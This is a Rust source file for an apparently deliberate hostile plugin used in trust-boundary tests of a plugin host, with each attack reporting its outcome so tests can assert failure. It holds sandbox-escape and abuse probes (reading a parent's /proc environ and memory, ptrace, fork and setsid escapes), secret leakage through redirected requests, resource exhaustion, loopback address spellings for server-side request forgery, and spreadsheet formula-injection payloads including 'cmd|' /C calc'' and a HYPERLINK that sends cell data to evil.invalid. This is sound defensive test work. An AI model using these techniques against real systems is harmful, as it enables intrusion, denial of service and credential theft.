//! A hostile plugin, built against `plugin-api` 1.0 like any third-party
//! plugin, that tries every attack on the kernel the trust-boundary tests
//! name. Each attack reports what it achieved in a `probe` record (or in its
//! log), so a test can assert it achieved nothing.
//!
//! `--param attack=…` (or the `HOSTILE_ATTACK` setting, for `run-all`): `env`, `proc`, `read` (the file in `target`),
//! `write` (a file at `target`), `socket` (TCP to 127.0.0.1:`port`),
//! `exec`, `grandchild`, `settings`, `redirect` (GET `HOSTILE_BASE_URL` +
//! `target` with its key), `fetch` (GET the URL `target`, with the header
//! `header`, `Name: value`, if given), `foreign-rows`, `overflow` (two amounts of its
//! own whose day sum needs 30 digits), `formulas` (a cost line whose every
//! text is a spreadsheet formula, in the spellings that slip past naive
//! checks), `newer-contract` (records with fields
//! of a later contract version), `impersonate` (another provider's display name), `flood` (`count` log lines and
//! one long line), `leak-days` (its key as a lost day's reason), `huge` (`count` records of 64 KiB), `memory`, `leak`
//! (logs and returns its own key).
//!
//! Its manifest function misbehaves when the bytes after
//! `HOSTILE-MANIFEST-MODE:` in the file are patched to `segv`, `abort`,
//! `hang`, `panic` or `noread` (floods requests, never reads answers), and
//! declares hosts of this machine when they are patched to `localN` (the
//! Nth spelling of [`LOCAL_SPELLINGS`]) or `hostname` (the machine's own
//! host name), and asks for `opencode_logs`' read paths (the database
//! files only) when they are patched to `opencode`; its ELF constructor creates the file named by
//! `HOSTILE_CTOR_MARKER` if that variable is visible to it.

use std::io::{Read, Write};

use plugin_api::{
    HttpRequest, Manifest, ParamSpec, PluginCtx, PluginResult, Record, RunMetadata, RunRequest,
};

/// Patched by tests (same length) to choose how `manifest()` misbehaves.
#[used]
static MANIFEST_MODE: [u8; 32] = *b"HOSTILE-MANIFEST-MODE:normal____";

fn manifest_mode() -> String {
    // Read through a volatile pointer so the compiler keeps the bytes in
    // the file, where a test can patch them.
    let bytes: [u8; 32] = unsafe { std::ptr::read_volatile(&MANIFEST_MODE) };
    String::from_utf8_lossy(&bytes[22..]).trim_end_matches('_').to_string()
}

/// Ways to write this machine or a private network in a manifest's hosts
/// (`localN` declares the Nth).
pub const LOCAL_SPELLINGS: [&str; 8] = [
    "::ffff:7f00:1",
    "[::ffff:127.0.0.1]",
    "::ffff:a9fe:a9fe",
    "::ffff:a00:1",
    "::127.0.0.1",
    "localhost.",
    "127.1",
    "0.0.0.0",
];

/// The machine's host name, as `uname` tells it (in the worker too).
fn host_name() -> String {
    // SAFETY: a struct of byte arrays, valid when zeroed, that `uname` fills.
    let mut u: libc::utsname = unsafe { std::mem::zeroed() };
    // SAFETY: `u` is a valid out-pointer.
    if unsafe { libc::uname(&mut u) } != 0 {
        return String::new();
    }
    let bytes: Vec<u8> = u.nodename.iter().take_while(|c| **c != 0).map(|c| *c as u8).collect();
    String::from_utf8_lossy(&bytes).into_owned()
}

/// Runs when the library is mapped, in whatever process maps it.
extern "C" fn constructor() {
    if let Some(path) = std::env::var_os("HOSTILE_CTOR_MARKER") {
        let _ = std::fs::write(path, b"constructor ran here");
    }
}

#[used]
#[link_section = ".init_array"]
static CONSTRUCTOR: extern "C" fn() = constructor;

fn manifest() -> Manifest {
    match manifest_mode().as_str() {
        // SAFETY: none; the point is to crash the process.
        "segv" => unsafe { std::ptr::null_mut::<u64>().write_volatile(1) },
        "abort" => std::process::abort(),
        "hang" => loop {
            std::thread::sleep(std::time::Duration::from_secs(1));
        },
        "panic" => panic!("manifest panicked on purpose"),
        "noread" => {
            // Floods the host with requests on the worker's protocol
            // descriptor and never reads the answers, hoping the host blocks
            // writing them.
            use std::io::Write;
            use std::os::fd::FromRawFd;
            let (_, output) = protocol_pipes();
            // SAFETY: a descriptor the worker owns; leaked on purpose.
            let mut out =
                std::mem::ManuallyDrop::new(unsafe { std::fs::File::from_raw_fd(output) });
            for id in 0..200_000u64 {
                let line = format!("{{\"t\":\"http\",\"id\":{id},\"requests\":[]}}\n");
                if out.write_all(line.as_bytes()).is_err() {
                    break;
                }
            }
            loop {
                std::thread::sleep(std::time::Duration::from_secs(1));
            }
        }
        _ => {}
    }
    let mode = manifest_mode();
    let hosts = match mode.strip_prefix("local").and_then(|n| n.parse::<usize>().ok()) {
        Some(n) => vec![LOCAL_SPELLINGS.get(n).copied().unwrap_or("localhost").to_string()],
        None if mode == "hostname" => vec![host_name()],
        None => vec![],
    };
    let param = |name: &str| ParamSpec::new(name, "");
    let mut settings: Vec<String> = [
        "HOSTILE_BASE_URL",
        "HOSTILE_MIRROR_URL",
        "OPENAI_ADMIN_KEY",
        "DISCORD_WEBHOOK_URL",
        "HOSTILE_NOTE",
        "HOSTILE_ATTACK",
        // Secret-shaped names a heuristic of exact words would miss.
        "MYSQL_PWD",
        "GITHUB_PAT",
        "SMTP_PASS",
        "GPG_PASSPHRASE",
        "OPENAI_ADMIN_KEYS",
        "SLACK_TOKENS",
    ]
    .map(String::from)
    .to_vec();
    // Read paths that would reach the home's `.env` and database.
    let read_paths = match mode.as_str() {
        "readroot" => vec!["/".to_string()],
        "readhome" => vec!["~/".to_string()],
        "sethome" => {
            settings.push("HOME".into());
            vec!["$HOME".to_string()]
        }
        // Exactly `opencode_logs`' grant: a database and its companions,
        // file by file, in the folder that also holds OpenCode's auth.json.
        "opencode" => ["opencode.db", "opencode.db-wal", "opencode.db-shm"]
            .map(|f| format!("~/.local/share/opencode/{f}"))
            .to_vec(),
        _ => vec![],
    };
    Manifest::new("hostile", env!("CARGO_PKG_VERSION"))
        .description("tries every attack on the kernel (trust-boundary tests)")
        .secrets(["HOSTILE_KEY"])
        // Asks for an admin key and a webhook as if they were plain settings.
        .settings(settings)
        .hosts(hosts)
        .params(["attack", "target", "port", "count", "secs", "header"].map(param))
        .daily(true)
        .read_paths(read_paths)
        // A daily plugin as built before contract 1.2: no providers.
        .providers(if mode == "pre12" { vec![] } else { vec!["hostile"] })
}

fn probe(attack: &str, outcome: String) -> PluginResult {
    let payload = serde_json::json!({ "attack": attack, "outcome": outcome }).to_string();
    PluginResult::success(vec![Record::new("probe", attack, payload)], &RunMetadata::default())
}

fn read_file(path: &str) -> String {
    match std::fs::File::open(path) {
        Ok(mut f) => {
            let mut buf = Vec::new();
            match f.read_to_end(&mut buf) {
                Ok(n) => format!("READ {n} bytes of {path}"),
                Err(e) => format!("opened {path} but reading failed: {e}"),
            }
        }
        Err(e) => format!("denied {path}: {e}"),
    }
}

fn run(ctx: &PluginCtx<'_>, req: RunRequest) -> PluginResult {
    let p = |name: &str| req.params.get(name).cloned().unwrap_or_default();
    let attack = req
        .params
        .get("attack")
        .or(req.settings.get("HOSTILE_ATTACK"))
        .cloned()
        .unwrap_or_default();
    let count: usize = p("count").parse().unwrap_or(1000);
    match attack.as_str() {
        "env" => {
            let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
            let cwd = std::env::current_dir().map(|d| d.display().to_string()).unwrap_or_default();
            let listing: Vec<String> = std::fs::read_dir(".")
                .map(|d| {
                    d.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect()
                })
                .unwrap_or_default();
            probe(
                &attack,
                format!("vars=[{}] cwd={cwd} files=[{}]", vars.join(","), listing.join(",")),
            )
        }
        "proc" => {
            let parent = std::os::unix::process::parent_id();
            let mut outcomes = vec![
                read_file(&format!("/proc/{parent}/environ")),
                read_file(&format!("/proc/{parent}/mem")),
                read_file(&format!("/proc/{parent}/cmdline")),
                read_file("/proc/self/environ"),
            ];
            // SAFETY: plain syscalls with integer arguments.
            let traced = unsafe { libc::ptrace(libc::PTRACE_ATTACH, parent as i32, 0, 0) };
            outcomes.push(if traced == 0 {
                "PTRACE ATTACHED to the host".into()
            } else {
                format!("ptrace denied: {}", std::io::Error::last_os_error())
            });
            probe(&attack, outcomes.join("; "))
        }
        "read" => probe(&attack, read_file(&p("target"))),
        "write" => {
            let target = p("target");
            let outcome = match std::fs::write(&target, b"planted by a plugin") {
                Ok(()) => format!("WROTE {target}"),
                Err(e) => format!("denied {target}: {e}"),
            };
            probe(&attack, outcome)
        }
        "socket" => {
            let addr = format!("127.0.0.1:{}", p("port"));
            let outcome = match std::net::TcpStream::connect(&addr) {
                Ok(mut s) => {
                    let _ = s.write_all(b"exfiltrated");
                    format!("CONNECTED to {addr}")
                }
                Err(e) => format!("denied {addr}: {e}"),
            };
            probe(&attack, outcome)
        }
        "signal" => {
            // Harmless probes (signal 0, reading a limit): allowed means the
            // plugin could stop or starve the host.
            let parent = std::os::unix::process::parent_id() as i32;
            let mut outcomes = Vec::new();
            // SAFETY: plain syscalls; signal 0 and a read-only prlimit change nothing.
            let sent = unsafe { libc::kill(parent, 0) };
            outcomes.push(if sent == 0 {
                "SIGNALLED the host".to_string()
            } else {
                format!("kill denied: {}", std::io::Error::last_os_error())
            });
            let mut old = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
            // SAFETY: as above; `old` is a valid out-pointer.
            let got =
                unsafe { libc::prlimit(parent, libc::RLIMIT_FSIZE, std::ptr::null(), &mut old) };
            outcomes.push(if got == 0 {
                "PRLIMIT reached the host".to_string()
            } else {
                format!("prlimit denied: {}", std::io::Error::last_os_error())
            });
            // SAFETY: as above.
            let all = unsafe { libc::kill(-1, 0) };
            outcomes.push(if all == 0 {
                "SIGNALLED every process".to_string()
            } else {
                format!("kill -1 denied: {}", std::io::Error::last_os_error())
            });
            probe(&attack, outcomes.join("; "))
        }
        "exec" => {
            let outcome = match std::process::Command::new("/bin/sh").arg("-c").arg("true").status()
            {
                Ok(s) => format!("EXECUTED /bin/sh: {s}"),
                Err(e) => format!("denied exec: {e}"),
            };
            probe(&attack, outcome)
        }
        "grandchild" => {
            // SAFETY: fork in a plugin, on purpose: the child holds the
            // worker's pipes and outlives it if the kernel lets it.
            let pid = unsafe { libc::fork() };
            if pid == 0 {
                std::thread::sleep(std::time::Duration::from_secs(60));
                // SAFETY: leave without running the parent's destructors.
                unsafe { libc::_exit(0) };
            }
            let outcome = if pid > 0 {
                format!("FORKED grandchild {pid}")
            } else {
                format!("denied fork: {}", std::io::Error::last_os_error())
            };
            probe(&attack, outcome)
        }
        "settings" => {
            let given: Vec<String> = req.settings.iter().map(|(k, v)| format!("{k}={v}")).collect();
            probe(&attack, format!("settings=[{}]", given.join(",")))
        }
        "redirect" => {
            let key = ctx.secret("HOSTILE_KEY").unwrap_or_default();
            let base = req.settings.get("HOSTILE_BASE_URL").cloned().unwrap_or_default();
            let request = HttpRequest::get(&format!("{base}{}", p("target")))
                .header("x-api-key", &key)
                .header("Authorization", &format!("Bearer {key}"));
            let outcome = match ctx.http(&request) {
                Ok(r) => format!("HTTP {}: {}", r.status, r.text()),
                Err(e) => format!("error: {e}"),
            };
            probe(&attack, outcome)
        }
        "fetch" => {
            let mut request = HttpRequest::get(&p("target"));
            if let Some((name, value)) = p("header").split_once(':') {
                request = request.header(name.trim(), value.trim());
            }
            let outcome = match ctx.http(&request) {
                Ok(r) => format!("HTTP {}: {}", r.status, r.text()),
                Err(e) => format!("error: {e}"),
            };
            probe(&attack, outcome)
        }
        "newer-contract" => {
            // A collector built against a later contract: fields this host
            // has never heard of, in every record kind.
            let day = req.from.clone().unwrap_or_default();
            let cost = serde_json::json!({
                "schema": 7, "provider": "hostile", "account": "default", "day": day,
                "amount": "1.25", "unit": "major", "currency": "usd", "line_item": "future",
                "carbon_grams": "12.5", "discount": {"kind": "commit", "pct": 10},
            });
            let usage = serde_json::json!({
                "schema": 7, "provider": "hostile", "day": day, "source": "future",
                "metrics": {"tokens": 40}, "token_metrics": ["tokens"], "latency_ms_p99": 812,
            });
            let provider = serde_json::json!({
                "schema": 7, "provider": "hostile", "display_name": "HOSTILE",
                "logo_url": "https://example.invalid/logo.png",
            });
            PluginResult::success(
                vec![
                    Record::new("cost", "", cost.to_string()),
                    Record::new("usage", "", usage.to_string()),
                    Record::new("provider", "", provider.to_string()),
                ],
                &RunMetadata::default(),
            )
        }
        "formulas" => {
            // Each text a spreadsheet opening the export would evaluate;
            // the amount and quantity are negative numbers, which must stay
            // numbers.
            let day = req.from.clone().unwrap_or_default();
            let payload = serde_json::json!({
                "provider": "hostile", "account": "@SUM(1+1)*cmd|' /C calc'!A0", "day": day,
                "project": " =1+1", "api_key": "\t=2+2", "line_item": "-1+1+cmd|' /C calc'!A0",
                "model": "-0+HYPERLINK(\"http://evil.invalid/?\"&A1,\"open\")",
                "token_type": "+1", "cost_type": "\r=3", "service_tier": "\n@x",
                "context_window": "-", "amount": "-1.50", "unit": "major", "currency": "usd",
                "quantity": "-2", "quantity_unit": "=x",
            });
            PluginResult::success(
                vec![Record::new("cost", "", payload.to_string())],
                &RunMetadata::default(),
            )
        }
        "impersonate" => {
            // Its own figures, shown under another provider's name.
            let provider = serde_json::json!({"provider": "hostile", "display_name": "OpenAI"});
            PluginResult::success(
                vec![Record::new("provider", "", provider.to_string())],
                &RunMetadata::default(),
            )
        }
        "foreign-rows" | "overflow" => {
            let day = req.from.clone().unwrap_or_default();
            let (provider, amount) = if attack == "overflow" {
                ("hostile", "79228162514264337593543950335")
            } else {
                ("openai", "1000000.00")
            };
            let cost = |item: &str| {
                let payload = serde_json::json!({
                    "provider": provider, "account": "default", "day": day, "amount": amount,
                    "unit": "major", "currency": "usd", "line_item": item,
                });
                Record::new("cost", "", payload.to_string())
            };
            PluginResult::success(
                vec![cost("planted-1"), cost("planted-2")],
                &RunMetadata::default(),
            )
        }
        "flood" => {
            for i in 0..count {
                ctx.info(&format!("flood line {i}"));
            }
            ctx.info(&"x".repeat(100_000));
            probe(&attack, format!("sent {count} lines"))
        }
        "huge" => {
            let payload = serde_json::json!({ "b": "y".repeat(64 << 10) }).to_string();
            let records =
                (0..count).map(|i| Record::new("blob", &i.to_string(), payload.clone())).collect();
            PluginResult::success(records, &RunMetadata::default())
        }
        "memory" => {
            let mut hog: Vec<Vec<u8>> = Vec::new();
            for _ in 0..64 {
                hog.push(vec![1u8; 256 << 20]);
            }
            probe(&attack, format!("ALLOCATED {} MiB", hog.len() * 256))
        }
        "leak" => {
            let key = ctx.secret("HOSTILE_KEY").unwrap_or_default();
            ctx.warn(&format!("my key is {key}"));
            let note = req.settings.get("HOSTILE_NOTE").cloned().unwrap_or_default();
            probe(&attack, format!("key={key} note={note}"))
        }
        "leak-days" => {
            // Its key as the reason a day was lost, where the host shows it.
            let key = ctx.secret("HOSTILE_KEY").unwrap_or_default();
            let mut meta = RunMetadata::default();
            meta.lost_days.insert(req.from.clone().unwrap_or_default(), format!("bad key {key}"));
            let mut result = PluginResult::success(Vec::new(), &meta);
            result.status = plugin_api::RunStatus::PARTIAL;
            result
        }
        "escape" => {
            // Leave the worker's process group for the host's, clear the
            // parent-death signal, then outlive the timeout.
            let host_group = unsafe { libc::getpgid(std::os::unix::process::parent_id() as i32) };
            let mut outcomes = Vec::new();
            // SAFETY: plain syscalls with integer arguments.
            unsafe {
                outcomes.push(errno_or("SETPGID", libc::setpgid(0, host_group)));
                outcomes.push(errno_or("SETSID", libc::setsid()));
                outcomes
                    .push(errno_or("PDEATHSIG", libc::prctl(libc::PR_SET_PDEATHSIG, 0, 0, 0, 0)));
            }
            ctx.warn(&outcomes.join("; "));
            std::thread::sleep(std::time::Duration::from_secs(p("secs").parse().unwrap_or(60)));
            probe(&attack, outcomes.join("; "))
        }
        "renice" => {
            // SAFETY: plain syscalls with integer arguments.
            let outcomes = unsafe {
                [
                    errno_or(
                        "RENICED every process of the user",
                        libc::setpriority(libc::PRIO_USER, 0, 19),
                    ),
                    errno_or(
                        "RENICED the process group",
                        libc::setpriority(libc::PRIO_PGRP, 0, 19),
                    ),
                    errno_or("RENICED itself", libc::setpriority(libc::PRIO_PROCESS, 0, 10)),
                ]
            };
            probe(&attack, outcomes.join("; "))
        }
        "privileged" => probe(&attack, privileged().join("; ")),
        "bigget" => {
            // `count` calls of four requests each for big answers, every
            // call made from its own thread at once, hoping the host holds
            // them all.
            let base = req.settings.get("HOSTILE_BASE_URL").cloned().unwrap_or_default();
            let calls: usize = p("count").parse().unwrap_or(4);
            let got = std::sync::atomic::AtomicU64::new(0);
            std::thread::scope(|s| {
                for _ in 0..calls {
                    s.spawn(|| {
                        let reqs: Vec<HttpRequest> =
                            (0..4).map(|_| HttpRequest::get(&format!("{base}/big"))).collect();
                        for r in ctx.http_all(&reqs).into_iter().flatten() {
                            got.fetch_add(
                                r.body.len() as u64,
                                std::sync::atomic::Ordering::Relaxed,
                            );
                        }
                    });
                }
            });
            probe(&attack, format!("received {} MiB", got.into_inner() >> 20))
        }
        "noread" => {
            // Keeps the host's answer pipe open but stops the worker's own
            // reader (its descriptor now reads /dev/null), then asks for big
            // answers on the protocol descriptor directly.
            let base = req.settings.get("HOSTILE_BASE_URL").cloned().unwrap_or_default();
            let (input, output) = protocol_pipes();
            // SAFETY: descriptor juggling on this process's own descriptors;
            // the duplicate is leaked on purpose.
            unsafe {
                let _keep = libc::dup(input);
                let null = libc::open(c"/dev/null".as_ptr(), libc::O_RDONLY);
                libc::dup2(null, input);
            }
            use std::os::fd::FromRawFd;
            // SAFETY: the worker's protocol descriptor; leaked on purpose.
            let mut out =
                std::mem::ManuallyDrop::new(unsafe { std::fs::File::from_raw_fd(output) });
            let request = serde_json::json!({
                "method": "GET", "url": format!("{base}/big"), "headers": [],
                "body": "empty", "timeout_ms": 0, "max_retries": 0,
            });
            for id in 0..count.min(64) {
                let line = serde_json::json!({
                    "t": "http", "id": 1_000_000 + id, "requests": [&request, &request, &request, &request],
                });
                if out.write_all(format!("{line}\n").as_bytes()).is_err() {
                    break;
                }
            }
            std::thread::sleep(std::time::Duration::from_secs(120));
            probe(&attack, "still here".into())
        }
        "threads" => {
            let wanted: usize = p("count").parse().unwrap_or(4000);
            let mut started = 0;
            let mut handles = Vec::new();
            let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
            for _ in 0..wanted {
                let stop = stop.clone();
                let spawned = std::thread::Builder::new().stack_size(64 << 10).spawn(move || {
                    while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                        std::thread::sleep(std::time::Duration::from_millis(20));
                    }
                });
                match spawned {
                    Ok(h) => {
                        started += 1;
                        handles.push(h);
                    }
                    Err(_) => break,
                }
            }
            stop.store(true, std::sync::atomic::Ordering::Relaxed);
            for h in handles {
                let _ = h.join();
            }
            probe(&attack, format!("started {started} threads"))
        }
        "fill" => {
            // Writes files into its private folder until refused.
            let mut written: u64 = 0;
            let chunk = vec![7u8; 1 << 20];
            'files: for i in 0..8 {
                let Ok(mut f) = std::fs::File::create(format!("fill-{i}")) else { break };
                for _ in 0..64 {
                    if f.write_all(&chunk).is_err() {
                        break 'files;
                    }
                    written += chunk.len() as u64;
                }
            }
            probe(&attack, format!("wrote {} MiB", written >> 20))
        }
        "caps" => {
            #[repr(C)]
            struct Header {
                version: u32,
                pid: i32,
            }
            let mut header = Header { version: 0x2008_0522, pid: 0 };
            let mut data = [[0u32; 3]; 2];
            // SAFETY: capget with a version-3 header and two data structs;
            // prctl reads only.
            let (got, bounding, ambient) = unsafe {
                let got = libc::syscall(libc::SYS_capget, &mut header, data.as_mut_ptr());
                let bounding = (0..41)
                    .filter(|c| libc::prctl(libc::PR_CAPBSET_READ, *c, 0, 0, 0) == 1)
                    .count();
                let ambient = (0..41)
                    .filter(|c| {
                        libc::prctl(libc::PR_CAP_AMBIENT, libc::PR_CAP_AMBIENT_IS_SET, *c, 0, 0)
                            == 1
                    })
                    .count();
                (got, bounding, ambient)
            };
            let uid = unsafe { libc::getuid() };
            probe(
                &attack,
                format!(
                    "capget={got} effective={:x}{:x} permitted={:x}{:x} inheritable={:x}{:x} bounding={bounding} ambient={ambient} uid={uid}",
                    data[1][0], data[0][0], data[1][1], data[0][1], data[1][2], data[0][2]
                ),
            )
        }
        other => PluginResult::failed(format!("unknown attack {other:?}")),
    }
}

/// The worker's protocol pipes (input, output): the pipes it holds beyond
/// the standard descriptors.
fn protocol_pipes() -> (i32, i32) {
    let (mut input, mut output) = (-1, -1);
    for fd in 3..256 {
        // SAFETY: fstat and fcntl on descriptor numbers, with a valid buffer.
        unsafe {
            let mut st: libc::stat = std::mem::zeroed();
            if libc::fstat(fd, &mut st) != 0 || st.st_mode & libc::S_IFMT != libc::S_IFIFO {
                continue;
            }
            match libc::fcntl(fd, libc::F_GETFL) & libc::O_ACCMODE {
                libc::O_RDONLY if input < 0 => input = fd,
                libc::O_WRONLY if output < 0 => output = fd,
                _ => {}
            }
        }
    }
    (input, output)
}

/// `what` when the call succeeded, else "denied" with the reason.
fn errno_or(what: &str, ret: libc::c_int) -> String {
    if ret >= 0 {
        what.to_string()
    } else {
        format!("denied ({})", std::io::Error::last_os_error())
    }
}

/// Calls only an administrator may make, each with arguments that would do
/// no harm even if allowed.
fn privileged() -> Vec<String> {
    let raw = |what: &str, ret: libc::c_long| {
        if ret >= 0 {
            what.to_string()
        } else {
            let e = std::io::Error::last_os_error();
            // EINVAL means the kernel looked at the arguments: the call was
            // not stopped by a privilege check.
            if e.raw_os_error() == Some(libc::EINVAL) {
                format!("{what} REACHED THE KERNEL ({e})")
            } else {
                format!("denied ({e})")
            }
        }
    };
    // SAFETY: raw syscalls with harmless arguments (a bad reboot magic, the
    // current host name, a missing swap file, a zero-length syslog read, a
    // node in the private folder, paths that are empty strings).
    unsafe {
        let mut name = [0u8; 65];
        libc::gethostname(name.as_mut_ptr().cast(), 64);
        let len = name.iter().position(|b| *b == 0).unwrap_or(0);
        vec![
            raw("REBOOT", libc::syscall(libc::SYS_reboot, 0, 0, 0, 0)),
            raw("SETHOSTNAME", libc::syscall(libc::SYS_sethostname, name.as_ptr(), len)),
            raw("SWAPOFF", libc::syscall(libc::SYS_swapoff, c"/nonexistent-swap".as_ptr())),
            raw("SYSLOG", libc::syscall(libc::SYS_syslog, 10, 0, 0)),
            raw(
                "MKNOD",
                libc::syscall(
                    libc::SYS_mknodat,
                    libc::AT_FDCWD,
                    c"blockdev".as_ptr(),
                    libc::S_IFBLK | 0o600,
                    libc::makedev(7, 0),
                ),
            ),
            raw("OPEN_TREE", libc::syscall(libc::SYS_open_tree, libc::AT_FDCWD, c".".as_ptr(), 0)),
            raw("FSOPEN", libc::syscall(libc::SYS_fsopen, c"tmpfs".as_ptr(), 0)),
        ]
    }
}

plugin_api::export_plugin! { manifest: manifest, run: run }
